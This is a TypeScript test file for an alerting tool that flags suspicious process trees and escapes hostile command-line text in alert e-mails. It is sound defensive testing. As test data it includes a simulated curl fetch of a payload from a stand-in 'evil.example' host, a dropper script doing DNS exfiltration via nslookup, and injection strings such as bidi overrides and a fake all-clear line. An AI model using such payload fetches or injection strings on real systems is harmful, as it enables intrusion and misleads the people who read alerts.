import { readFileSync, writeFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { formatEmailBody } from "../../lib/alerts/format-email.js";
import { snsSubject } from "../../lib/alerts/sns-message.js";
import { detect, exec, shell } from "../helpers/exec-events.js";
import { hostileLinkText, hostileText, linkable, rawUnsafe } from "../helpers/hostile-text.js";
import { replayText } from "../helpers/replay-text.js";
import { CAPTURED_AUDITD, readSample } from "../helpers/samples.js";

const GOLDEN = fileURLToPath(new URL("../fixtures/email/captured-nslookup.txt", import.meta.url));

/** Characters that act in a terminal, a mail client or a bidi-aware renderer. */
const ACTIVE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/;

async function alertWithArgs(args: string[], parentArgs: string[] = ["/bin/sh", "/tmp/x.sh"]) {
  const { alerts } = await detect([
    shell(),
    exec({ pid: 200, ppid: 100, exe: "/usr/bin/dash", args: parentArgs }),
    exec({ pid: 300, ppid: 200, exe: "/usr/bin/curl", args }),
  ]);
  return alerts[0]!;
}

describe("e-mail", () => {
  it("matches the golden e-mail for the captured nslookup alert (UPDATE_GOLDEN=1 rewrites it)", async () => {
    const { alerts } = await replayText(readSample(CAPTURED_AUDITD));
    const alert = alerts[0]!;
    const email = `Subject: ${snsSubject(alert)}\n\n${formatEmailBody(alert)}\n`;
    if (process.env["UPDATE_GOLDEN"] === "1") writeFileSync(GOLDEN, email);
    expect(email).toBe(readFileSync(GOLDEN, "utf8"));
  });

  it("says what happened, draws the whole tree with pid, user, executable, script and command line", async () => {
    const { alerts } = await replayText(readSample(CAPTURED_AUDITD));
    const body = formatEmailBody(alerts[0]!);
    for (const part of [
      "nslookup (dns) executed; script run by an ancestor is in a writable directory",
      "location   /tmp/dropper[.]sh  (kind script, depth 1, tier temp)",
      "host       vm   container -",
      "first seen 2026-11-27T23:27:18.628Z, first sighting in this dedup window",
      "T1071.004 Application Layer Protocol: DNS (Command and Control)",
      "[14823] user=root /usr/bin/bash  $ /bin/bash /opt/sim/run[.]sh  script=/opt/sim/run[.]sh",
      "└─ [14826] user=root /usr/bin/dash  $ /bin/sh /tmp/dropper[.]sh  script=/tmp/dropper[.]sh",
      "└─ [14828] user=root /usr/bin/nslookup  $ nslookup vm[.]leak[.]example 192[.]0[.]2[.]53",
      "1. Check who ran the utility",
    ]) {
      expect(body).toContain(part);
    }
  });

  it("a hostile command line is inert: no mention, link, backtick trick, bidi override or new line acts", async () => {
    const hostile =
      "x <!channel> <https://evil.example|click> ```rm``` \u202egnp.exe\nFAKE: [CRITICAL] all clear";
    const alert = await alertWithArgs(["curl", hostile, "http://evil.example/payload"]);
    const body = formatEmailBody(alert);
    const subject = snsSubject(alert);
    expect(body).not.toMatch(ACTIVE);
    expect(body).not.toMatch(/https?:\/\//i);
    expect(body).toContain("hxxp[://]evil[.]example/payload");
    expect(body).toContain("\\u202egnp[.]exe\\nFAKE: [CRITICAL] all clear");
    // The command line shows in the tree and its host in the targets line: escaped in both, never a line of its own.
    const lines = body.split("\n").filter((l) => l.includes("FAKE"));
    expect(lines).toHaveLength(2);
    for (const line of lines) expect(line).toMatch(/^ +\S.*\\nFAKE/);
    expect(subject).toMatch(/^[\x20-\x7e]{1,99}$/);
  });

  it.each([
    // The "Hostile text" cases, as they reach the e-mail in a command line.
    [
      "a domain without a scheme",
      "evil-payload.example.com/stage2.sh",
      "evil-payload[.]example[.]com/stage2[.]sh",
    ],
    ["a paste site", "pastebin.com/raw/x", "pastebin[.]com/raw/x"],
    ["an address", "ops@evil.example", "ops[@]evil[.]example"],
    ["a mailto: link", "mailto:ops@evil.example", "mailto[:]ops[@]evil[.]example"],
    ["an IPv4 address", "198.51.100.7", "198[.]51[.]100[.]7"],
    ["a URL", "https://evil.example/a", "hxxps[://]evil[.]example/a"],
    ["tag characters", "a\u{e0041}\u{e0042}b", "a\\u{e0041}\\u{e0042}b"],
    ["Hangul fillers", "\u115f\u1160\u3164\uffa0", "\\u115f\\u1160\\u3164\\uffa0"],
    ["the Mongolian vowel separator", "a\u180eb", "a\\u180eb"],
    ["the combining grapheme joiner", "a\u034fb", "a\\u034fb"],
    ["interlinear annotation marks", "\ufff9x\ufffay\ufffb", "\\ufff9x\\ufffay\\ufffb"],
    ["variation selectors", "a\ufe0f\u{e0100}", "a\\ufe0f\\u{e0100}"],
  ])("%s in a command line is inert in the e-mail", async (_name, arg, shown) => {
    const body = formatEmailBody(await alertWithArgs(["curl", arg]));
    expect(body).toContain(`$ curl ${shown}`);
    expect(rawUnsafe(body, "\n")).toEqual([]);
    expect(linkable(body)).toEqual([]);
  });

  it("property: no code point of the escaped classes and nothing linkable, from any field of telemetry", async () => {
    const field = fc.oneof(hostileText, hostileLinkText);
    await fc.assert(
      fc.asyncProperty(
        fc.array(field, { minLength: 1, maxLength: 3 }),
        field,
        field,
        field,
        async (args, script, host, user) => {
          const { alerts } = await detect([
            shell({ host, user }),
            exec({
              pid: 200,
              ppid: 100,
              exe: "/usr/bin/dash",
              args: ["/bin/sh", `/tmp/${script}`],
              host,
              user,
            }),
            exec({ pid: 300, ppid: 200, exe: "/usr/bin/curl", args: ["curl", ...args], host, user }),
          ]);
          const body = formatEmailBody(alerts[0]!);
          // The report's own layout is one line per fact: its new lines are the only raw control characters.
          expect(rawUnsafe(body, "\n")).toEqual([]);
          expect(linkable(body)).toEqual([]);
        },
      ),
      { numRuns: 200, seed: 20261127 },
    );
  });

  it("no generated command line yields an active character or a live link in the e-mail", async () => {
    const fragment = fc.constantFrom(
      "<!channel>",
      "<https://e.example|x>",
      "`",
      "```",
      "\u202e",
      "\u2066",
      "\n",
      "\r",
      "\u001b[2J",
      "\u0085",
      "http://",
      "www.",
      "@here",
      "&",
      "<",
      ">",
    );
    const part = fc.oneof(fc.string({ unit: "binary", maxLength: 20 }), fragment);
    const argv = fc.array(
      fc.array(part, { maxLength: 6 }).map((p) => p.join("")),
      { minLength: 1, maxLength: 4 },
    );
    await fc.assert(
      fc.asyncProperty(argv, argv, async (args, parentArgs) => {
        const alert = await alertWithArgs(["curl", ...args], ["/bin/sh", "/tmp/x.sh", ...parentArgs]);
        const body = formatEmailBody(alert);
        expect(body).not.toMatch(ACTIVE);
        expect(body).not.toMatch(/[a-z0-9+.-]:\/\//i);
        expect(snsSubject(alert)).toMatch(/^[\x20-\x7e]{1,99}$/);
      }),
      { numRuns: 150 },
    );
  });
});
